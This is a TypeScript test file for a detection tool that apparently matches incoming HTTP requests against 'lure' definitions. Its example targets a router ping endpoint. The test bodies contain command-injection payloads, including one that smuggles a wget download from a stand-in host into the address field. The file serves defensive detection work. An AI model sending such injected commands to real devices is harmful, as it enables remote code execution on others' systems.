import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { LureSet } from './lure-set.ts';
import { isLure, readLure, writeLure } from './read-lure.ts';

const page = readFileSync(join(import.meta.dirname, '../../docs/lures.md'), 'utf8');
const example = /```yaml\n([^]*?)```/.exec(page)?.[1] ?? '';

describe('a lure’s file', () => {
  it('is what docs/lures.md shows, and recognises what the page says', () => {
    const read = readLure(example);
    expect(read).toMatchObject({ name: 'example-router-ping', cves: ['CVE-2031-0001'] });
    if (!isLure(read)) return;
    const set = new LureSet([read]);
    const post = (body: string): readonly string[] =>
      set.match({ method: 'POST', path: '/goform/ping', headers: [], body }).flatMap(({ cves }) => cves);
    expect(post('address=;echo 4711;&count=1')).toEqual(['CVE-2031-0001']);
    expect(post('address=;wget http://198.51.100.7/x;&count=1')).toEqual(['CVE-2031-0001']);
    expect(post('address=198.51.100.7&count=1')).toEqual([]);
    expect(set.match({ method: 'GET', path: '/login.html', headers: [], body: '' })).toEqual([]);
  });

  it('is the same after it was written and read', () => {
    const read = readLure(example);
    if (!isLure(read)) throw new Error(read.why);
    expect(readLure(writeLure(read))).toEqual(read);
  });

  it('is refused with the line and key at fault', () => {
    expect(readLure(example.replace('class: rce', 'class: magic'))).toMatchObject({
      line: 7,
      why: expect.stringContaining('class'),
    });
    expect(readLure(example.replace('cwes:', 'cwe:'))).toMatchObject({
      line: 6,
      why: 'there is no key "cwe"',
    });
    expect(readLure('lure: 1')).toMatchObject({ line: 1, why: expect.stringContaining('name') });
    expect(readLure('x'.repeat(2_000_000))).toMatchObject({ why: 'larger than 1024 KiB' });
  });

  it('may be cut or changed anywhere without harm', () => {
    fc.assert(
      fc.property(fc.nat(example.length), fc.nat(20), fc.string({ maxLength: 6 }), (at, cut, put) => {
        const read = readLure(example.slice(0, at) + put + example.slice(at + cut));
        if (isLure(read))
          new LureSet([read]).match({
            method: 'POST',
            path: '/goform/ping',
            headers: [],
            body: 'address=;id;',
          });
      }),
      { numRuns: 150 },
    );
  });
});
